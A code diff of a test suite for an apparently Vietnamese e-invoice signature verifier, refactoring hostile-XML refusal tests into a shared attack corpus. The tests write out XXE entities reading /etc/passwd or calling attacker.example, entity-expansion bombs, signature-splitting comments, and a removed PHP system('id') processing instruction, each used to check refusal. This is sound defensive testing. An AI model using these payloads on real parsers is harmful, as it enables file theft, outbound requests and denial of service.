@@ -8,6 +8,7 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startHarness, type Harness, type TestSeller } from "../helpers/app.js";
+import { XML_ATTACKS, type AttackContext } from "../helpers/attack-corpus.js";
 import { all, one, resign, rewrite } from "../helpers/attacks.js";
 import { buildInvoice } from "../helpers/invoice.js";
 import { expectIssued, expectRefused } from "../helpers/refusal.js";
@@ -34,20 +35,12 @@ const signed = () => s.invoice({ lines: [{ name: "Dịch vụ", quantity: 1, uni
 /** Puts `insert` at the first occurrence of `at` (before it). */
 const before = (xml: string, at: string | RegExp, insert: string) => xml.replace(at, (m) => insert + m);
 
-describe("comments and processing instructions", () => {
-  for (const [where, edit] of [
-    ["inside DigestValue", (x: string) => x.replace(/(<DigestValue>[A-Za-z0-9+/]{4})/, "$1<!--x-->")],
-    ["inside SignatureValue", (x: string) => x.replace(/(<SignatureValue>[A-Za-z0-9+/]{4})/, "$1<!---->")],
-    ["splitting a signed amount (C14N without comments would keep the digest)", (x: string) => x.replace("<TgTTTBSo>1210000<", "<TgTTTBSo>12<!---->10000<")],
-    ["splitting the seller's tax code", (x: string) => x.replace(/<MST>(\d{4})/, "<MST>$1<!---->")],
-    ["before the root", (x: string) => `<!-- invoice -->${x}`],
-    ["after the root", (x: string) => `${x}<!-- end -->`],
-    ["inside X509Certificate", (x: string) => x.replace(/(<X509Certificate>[A-Za-z0-9+/]{8})/, "$1<!---->")],
-  ] as const) {
-    it(`refuses a comment ${where} (XML_FORBIDDEN_CONSTRUCT)`, async () => {
-      const xml = edit(signed());
-      expect(xml).toContain("<!--");
-      await refused(xml, "XML_FORBIDDEN_CONSTRUCT");
+describe("the hostile-XML attacks of the corpus (comments, processing instructions, DOCTYPE, two roots, relative namespaces)", () => {
+  // test/helpers/attack-corpus.ts XML_ATTACKS: also run through hoadon check and xmlsec1 (test/interop/check-xmlsec1.test.ts).
+  const context = (): AttackContext => ({ signed: (sign = {}) => s.invoice({ lines: [{ name: "Máy chủ", quantity: 1, unitPrice: 1_000_000, taxRate: "10%" }] }, sign), keyPem: s.keyPem, certPem: s.certPem });
+  for (const attack of XML_ATTACKS) {
+    it(`refuses ${attack.name}`, async () => {
+      await refused(attack.build(context()), attack.code);
     });
   }
 
@@ -55,32 +48,9 @@ describe("comments and processing instructions", () => {
     const xml = signInvoice(buildInvoice({ sellerTaxCode: s.taxCode }).replace("<NDHDon>", "<NDHDon><!-- ghi chú -->"), { keyPem: s.keyPem, certPem: s.certPem });
     await refused(xml, "XML_FORBIDDEN_CONSTRUCT");
   });
-
-  for (const [where, edit] of [
-    ["before the root (xml-stylesheet)", (x: string) => `<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>${x}`],
-    ["inside DLHDon", (x: string) => x.replace("<NDHDon>", "<NDHDon><?php system('id') ?>")],
-    ["inside SignatureValue", (x: string) => x.replace(/(<SignatureValue>[A-Za-z0-9+/]{4})/, "$1<?x?>")],
-    ["splitting a signed amount", (x: string) => x.replace("<TgTTTBSo>1210000<", "<TgTTTBSo>121<?x?>0000<")],
-    ["after the root", (x: string) => `${x}<?done?>`],
-    ["as a second XML declaration inside the root", (x: string) => x.replace("<DSCKS>", '<?xml version="1.0"?><DSCKS>')],
-  ] as const) {
-    it(`refuses a processing instruction ${where} (XML_FORBIDDEN_CONSTRUCT)`, async () => {
-      await refused(edit(signed()), "XML_FORBIDDEN_CONSTRUCT");
-    });
-  }
 });
 
 describe("document structure", () => {
-  it("refuses two roots: a forged HDon after the signed one (XML_MALFORMED)", async () => {
-    const xml = signed();
-    await refused(xml + xml.replace("1210000", "1"), "XML_MALFORMED");
-  });
-
-  it("refuses two roots: a forged HDon before the signed one (XML_MALFORMED)", async () => {
-    const xml = signed();
-    await refused(xml.replace("1210000", "1") + xml, "XML_MALFORMED");
-  });
-
   it("refuses text or a second element after the root (XML_MALFORMED)", async () => {
     await refused(`${signed()}garbage`, "XML_MALFORMED");
     await refused(`${signed()}<DLHDon Id="x"/>`, "XML_MALFORMED");
@@ -99,15 +69,6 @@ describe("document structure", () => {
     await refused("", "XML_MALFORMED");
     await refused("  \n ", "XML_MALFORMED");
   });
-
-  for (const [where, edit] of [
-    ["on DSCKS (outside the signed data)", (x: string) => x.replace("<DSCKS>", '<DSCKS xmlns:a="relative/path">')],
-    ["on the Signature", (x: string) => x.replace(/<Signature /, '<Signature xmlns:r="../up" ')],
-  ] as const) {
-    it(`refuses a relative namespace URI ${where} (XML_FORBIDDEN_CONSTRUCT)`, async () => {
-      await refused(edit(signed()), "XML_FORBIDDEN_CONSTRUCT");
-    });
-  }
 
   it("refuses a relative namespace URI inside the DLHDon, correctly re-signed (XML_FORBIDDEN_CONSTRUCT)", async () => {
     const xml = resign(signed(), s.keyPem, ({ doc }) => {
@@ -129,8 +90,6 @@ describe("document structure", () => {
 describe("DOCTYPE and entities", () => {
   const invoice = () => signed();
   for (const [name, prolog, use] of [
-    ["a bare DOCTYPE", "<!DOCTYPE HDon>", ""],
-    ["an internal entity", '<!DOCTYPE HDon [<!ENTITY seller "Công ty giả mạo">]>', "&seller;"],
     ["an external entity (file:///etc/passwd)", '<!DOCTYPE HDon [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"],
     ["an external entity over http", '<!DOCTYPE HDon [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', "&xxe;"],
     ["an external parameter entity", '<!DOCTYPE HDon [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>', ""],
@@ -141,7 +100,6 @@ describe("DOCTYPE and entities", () => {
       "&l10;",
     ],
     ["the flat variant (one 100 KB entity used 10,000 times)", `<!DOCTYPE HDon [<!ENTITY big "${"x".repeat(100_000)}">]>`, "&big;".repeat(10_000)],
-    ["an ATTLIST that declares a default Id", '<!DOCTYPE HDon [<!ATTLIST CCKSKhac Id ID "SigningData">]>', ""],
   ] as const) {
     it(`refuses ${name} (XML_FORBIDDEN_CONSTRUCT)`, async () => {
       const xml = `<?xml version="1.0" encoding="UTF-8"?>${prolog}${invoice().replace("<THDon>", `<THDon>${use}`)}`;
